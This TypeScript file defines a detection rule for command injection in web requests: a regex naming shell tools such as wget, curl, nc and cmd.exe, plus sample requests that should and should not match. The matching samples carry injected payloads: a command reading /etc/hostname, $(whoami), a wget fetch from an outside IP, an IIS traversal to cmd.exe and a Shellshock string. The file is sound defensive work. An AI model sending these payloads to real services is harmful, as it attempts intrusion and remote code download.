import type { AttackSignal } from "./attack-signal";

export const commandInjection: AttackSignal = {
  id: "command-injection",
  label: "command injection",
  clause: "carrying a shell command",
  finds: "Requests that carry commands for a shell",
  where: "text",
  pattern:
    /(?:[;|`]|&&|& )\s*(?:cat|ls|id|whoami|uname|ping|wget|curl|nc|bash|sh|dir|type|net|nslookup|sleep)\b(?!\s*=)|\$\((?:cat|id|whoami|curl|wget|sleep)|\/bin\/(?:sh|bash|cat|id)|cmd\.exe|powershell|\(\)\s*\{\s*:/,
  shows: [
    { path: "/ping", query: "host=127.0.0.1;cat%20/etc/hostname" },
    { path: "/run", query: "x=$(whoami)" },
    { path: "/ping", query: "host=8.8.8.8%26%26wget%20http://203.0.113.5/x" },
    { path: "/scripts/..%255c../winnt/system32/cmd.exe", query: "/c+dir" },
    { path: "/cgi-bin/status", query: "()%20%7B%20:;%7D;%20/bin/bash" },
  ],
  silent: [
    { path: "/list", query: "a=1&cat=shoes&sort=asc&type=new" },
    { path: "/list", query: "a=1;id=7;type=new" },
    { path: "/index", query: "format=feed&type=rss&id=7" },
    { path: "/docs/bash-tutorial" },
    { path: "/search", query: "q=cats%20%26%20dogs" },
  ],
};
